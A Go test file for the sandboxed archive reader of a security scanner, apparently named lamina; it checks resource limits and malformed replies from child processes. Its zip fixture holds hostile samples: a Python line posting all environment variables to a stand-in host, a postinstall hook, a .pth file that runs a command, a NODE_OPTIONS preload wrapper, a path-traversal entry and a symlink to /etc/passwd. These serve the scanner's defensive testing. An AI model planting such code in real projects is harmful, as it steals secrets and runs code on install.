package sandbox

import (
	"archive/zip"
	"bytes"
	"context"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"os/signal"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
	"go.uber.org/goleak"

	"github.com/lamina-sec/lamina/internal/content"
)

// TestMain makes this test binary a program that can be its own child, and one
// that misbehaves in the ways of hooks.
func TestMain(m *testing.M) {
	if len(os.Args) == 2 && hooks[os.Args[1]] != nil {
		hooks[os.Args[1]]()
		os.Exit(0)
	}
	if code, child := Enter(os.Args); child {
		os.Exit(code)
	}
	if !supported {
		fmt.Println("skip all: there is no sandbox on this system")
		os.Exit(0)
	}
	goleak.VerifyTestMain(m)
}

// hooks are children that do something else, after they confined themselves if
// they are honest so far.
var hooks = map[string]func(){
	"hog": confinedly(func() {
		var keep [][]byte
		for {
			b := make([]byte, 1<<20)
			for i := 0; i < len(b); i += 512 {
				b[i] = 1
			}
			keep = append(keep, b)
			runtime.KeepAlive(keep)
		}
	}),
	"spin": confinedly(func() {
		for n := 0; ; n++ {
			runtime.KeepAlive(n)
		}
	}),
	"spin on": confinedly(func() {
		signal.Reset()
		for n := 0; ; n++ {
			runtime.KeepAlive(n)
		}
	}),
	"hang":    confinedly(func() { <-time.After(time.Hour) }),
	"silent":  func() {},
	"rubbish": confinedly(func() { say([]byte("{\"findings\":[]}")) }),
	"flood": confinedly(func() {
		for {
			say(make([]byte, 1<<16))
		}
	}),
	"short": confinedly(func() {
		b := encode(reply{Layer: &content.Layer{SHA256: strings.Repeat("a", 64)}})
		say(b[:len(b)-3])
	}),
	"long":    confinedly(func() { say(append(encode(reply{Layer: &content.Layer{}}), 0)) }),
	"nothing": confinedly(func() { say(encode(reply{})) }),
	"empty":   confinedly(func() { say(encode(reply{Layer: &content.Layer{}})) }), // a layer without files: it read other bytes
	"panic":   confinedly(func() { panic("\x1b[2J") }),
	"exit":    func() { os.Exit(9) },
	"unlimited": func() {
		say(encode(reply{Unconfined: "no limits today"}))
	},
	"try": try,
}

// confinedly confines the process as the child does and then runs f.
func confinedly(f func()) func() {
	return func() {
		req, err := readRequest()
		if err == nil {
			_, err = confine(req)
		}
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(1)
		}
		f()
	}
}

func say(b []byte) {
	if _, err := os.Stdout.Write(b); err != nil {
		os.Exit(1)
	}
}

// small are limits that a test reaches soon.
var small = Limits{Memory: 192 << 20, CPU: time.Second, Wall: time.Minute, Files: 32, Reply: 1 << 20, Decoded: 8 << 20}

// sample is a layer with something of each kind.
func sample(t *testing.T) *os.File {
	t.Helper()
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for name, body := range map[string]string{
		"python/app.py":                             "import os, requests\nrequests.post('https://x.invalid', data=dict(os.environ))\n",
		"python/a-1.0.dist-info/METADATA":           "Metadata-Version: 2.1\nName: a\nVersion: 1.0\nLicense: MIT\n",
		"nodejs/node_modules/b/package.json":        `{"name":"b","version":"2.0.0","scripts":{"postinstall":"node x.js"}}`,
		"nodejs/node_modules/b/x.js":                "require('child_process').exec(process.env.X)\n",
		"wrapper":                                   "#!/bin/bash\nexport NODE_OPTIONS=--require=/opt/x.js\nexec \"$@\"\n",
		"python/\xff.py":                            "import os\n",
		"python/\u202e.txt":                         "text",
		"python/lib/python3.12/site-packages/x.pth": "import os; os.system('id')\n",
		"../out": "leaves",
	} {
		f, err := w.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := f.Write([]byte(body)); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return file(t, b.Bytes())
}

func file(t *testing.T, data []byte) *os.File {
	t.Helper()
	name := filepath.Join(t.TempDir(), "layer.zip")
	if err := os.WriteFile(name, data, 0o600); err != nil {
		t.Fatal(err)
	}
	return opened(t, name)
}

func opened(t *testing.T, name string) *os.File {
	t.Helper()
	f, err := os.Open(name)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = f.Close() })
	return f
}

// same are options under which two readings are compared: all that is exported,
// errors by what they say.
var same = cmp.Options{
	cmpopts.IgnoreUnexported(content.Layer{}),
	cmp.Comparer(func(a, b error) bool { return fmt.Sprint(a) == fmt.Sprint(b) }),
	cmp.FilterPath(func(p cmp.Path) bool { return p.Last().String() == ".Entries" }, cmp.Ignore()),
}

func compare(t *testing.T, want, got *content.Layer) {
	t.Helper()
	if d := cmp.Diff(want, got, same); d != "" {
		t.Error(d)
	}
	if len(want.Entries) != len(got.Entries) {
		t.Fatalf("got %d entries, want %d", len(got.Entries), len(want.Entries))
	}
	for i, e := range want.Entries {
		if g := got.Entries[i]; g.Name != e.Name || g.Path != e.Path || g.Mode != e.Mode || g.Size != e.Size || g.CRC32 != e.CRC32 || !g.Modified.Equal(e.Modified) {
			t.Errorf("entry %d: got %+v, want %+v", i, g, e)
		}
	}
	for _, f := range want.Files {
		if (got.File(f.Path) == nil) != (want.File(f.Path) == nil) {
			t.Errorf("%s is not found by path", f.Path)
		}
	}
}

// A child gives what reading here gives, for an archive, a folder, and what is
// none.
func TestRead_gives_what_reading_here_gives(t *testing.T) {
	in := sample(t)
	info, err := in.Stat()
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	for name, body := range map[string]string{"python/a.py": "import os\nos.system('id')\n", "x.pth": "import a\n"} {
		name = filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(name), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(name, []byte(body), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink("/etc/passwd", filepath.Join(dir, "link")); err != nil {
		t.Fatal(err)
	}
	bad := file(t, []byte("PK no archive"))
	for _, imports := range []bool{false, true} {
		o := content.Options{Imports: imports}
		for _, c := range []struct {
			in   *os.File
			want *content.Layer
		}{
			{in, content.Read("l\xff.zip", in, info.Size(), o)},
			{opened(t, dir), content.ReadDir("l\xff.zip", os.DirFS(dir), o)},
			{bad, content.Read("l\xff.zip", bad, 13, o)},
		} {
			got, confined, err := Read(t.Context(), Target{Name: "l\xff.zip", File: c.in, Imports: imports})
			if err != nil {
				t.Fatal(err)
			}
			if len(confined) == 0 {
				t.Error("nothing was in force")
			}
			compare(t, c.want, got)
		}
	}
}

// A child that does anything else makes a layer that could not be opened, with
// the reason.
func TestRead_failing_children(t *testing.T) {
	for verb, want := range map[string]string{
		"hog":     "needed more than 192 MiB of memory, its limit",
		"spin":    "used more than 1s of CPU time, its limit",
		"spin on": "used more than 1s of CPU time, its limit", // it does not listen
		"silent":  "wrote what is no reply: it ends early",
		"rubbish": "wrote what is no reply",
		"flood":   "wrote more than 1048576 bytes, its limit",
		"short":   "wrote what is no reply: it ends early",
		"long":    "wrote what is no reply: 1 bytes follow it",
		"nothing": "wrote a reply without a layer",
		"empty":   "says that it read other bytes",
		"panic":   "failed (exit status 2)",
		"exit":    "failed (exit status 9)",
	} {
		t.Run(verb, func(t *testing.T) {
			if verb == "hog" && (runtime.GOOS != "linux" || raced) {
				t.Skip("this system limits no memory, or the race detector speaks first")
			}
			before := descriptors(t)
			l, _, err := runner{verb: verb, limits: small}.read(t.Context(), Target{Name: "a.zip", File: sample(t)})
			if err != nil {
				t.Fatal(err)
			}
			if l.Err == nil || !strings.Contains(l.Err.Error(), "the sandboxed reader "+want) {
				t.Errorf("got %v, want %q", l.Err, want)
			}
			if strings.Contains(l.Err.Error(), "\x1b") {
				t.Errorf("%q shows what the child said", l.Err)
			}
			if len(l.Skipped) != 1 || l.Skipped[0].Reason != l.Err.Error() {
				t.Errorf("got %v", l.Skipped)
			}
			if after := descriptors(t); after > before+1 { // the sample is open
				t.Errorf("%d descriptors are open, %d were", after, before)
			}
			noChildren(t)
		})
	}
}

// A child that hangs is stopped at its limit of time, and at once when the caller
// gives up; that is no result.
func TestRead_hanging_child(t *testing.T) {
	limits := small
	limits.Wall = 300 * time.Millisecond
	l, _, err := runner{verb: "hang", limits: limits}.read(t.Context(), Target{Name: "a.zip", File: sample(t)})
	if err != nil || l.Err == nil || !strings.Contains(l.Err.Error(), "was stopped after 300ms, its limit of time") {
		t.Errorf("got %v, %v", l, err)
	}
	ctx, cancel := context.WithCancelCause(t.Context())
	stop := errors.New("interrupted")
	time.AfterFunc(100*time.Millisecond, func() { cancel(stop) })
	if l, _, err := (runner{verb: "hang", limits: small}).read(ctx, Target{Name: "a.zip", File: sample(t)}); l != nil || !errors.Is(err, stop) {
		t.Errorf("got %v, %v", l, err)
	}
	noChildren(t)
}

// A child that somebody kills makes a layer that could not be opened.
func TestRead_killed_child(t *testing.T) {
	before := children(t)
	done := make(chan *content.Layer)
	go func() {
		l, _, err := runner{verb: "hang", limits: small}.read(t.Context(), Target{Name: "a.zip", File: sample(t)})
		if err != nil {
			t.Error(err)
		}
		done <- l
	}()
	var pid int
	for pid == 0 {
		select {
		case l := <-done:
			t.Fatalf("the child ended by itself: %v", l.Err)
		default:
		}
		for p := range children(t) {
			if !before[p] {
				pid = p
			}
		}
	}
	p, err := os.FindProcess(pid)
	if err == nil {
		err = p.Kill()
	}
	if err != nil {
		t.Fatal(err)
	}
	if l := <-done; l == nil || l.Err == nil || !strings.Contains(l.Err.Error(), "was killed (signal: killed)") {
		t.Errorf("got %+v", l)
	}
}

// That a child could not confine itself is an error, and not a layer.
func TestRead_unconfined(t *testing.T) {
	if l, _, err := (runner{verb: "unlimited", limits: small}).read(t.Context(), Target{Name: "a.zip", File: sample(t)}); l != nil || !errors.Is(err, errUnconfined) {
		t.Errorf("got %v, %v", l, err)
	}
}

// A program that did not call Enter would run itself as its child.
func TestAvailable_asks_for_Enter(t *testing.T) {
	canBeChild.Store(false)
	defer canBeChild.Store(true)
	if _, _, err := Read(t.Context(), Target{Name: "a.zip", File: sample(t)}); !errors.Is(err, ErrUnavailable) {
		t.Errorf("got %v", err)
	}
}

// noChildren reports children that nobody waited for.
func noChildren(t *testing.T) {
	t.Helper()
	if left := children(t); len(left) > 0 {
		t.Errorf("processes %v are left", left)
	}
}

// children are the processes that this one started.
func children(t *testing.T) map[int]bool {
	t.Helper()
	pgrep, err := exec.LookPath("pgrep")
	if err != nil {
		t.Skip("there is no pgrep")
	}
	var out bytes.Buffer
	c := exec.CommandContext(context.WithoutCancel(t.Context()), pgrep, "-P", strconv.Itoa(os.Getpid()))
	c.Stdout = &out
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	_ = c.Wait() // 1 if there is none
	all := map[int]bool{}
	for line := range strings.FieldsSeq(out.String()) {
		var pid int
		if _, err := fmt.Sscan(line, &pid); err == nil && pid != c.Process.Pid {
			all[pid] = true
		}
	}
	return all
}

// descriptors counts what this process has open.
func descriptors(t *testing.T) int {
	t.Helper()
	list, err := os.ReadDir("/dev/fd")
	if err != nil {
		t.Fatal(err)
	}
	return len(list)
}
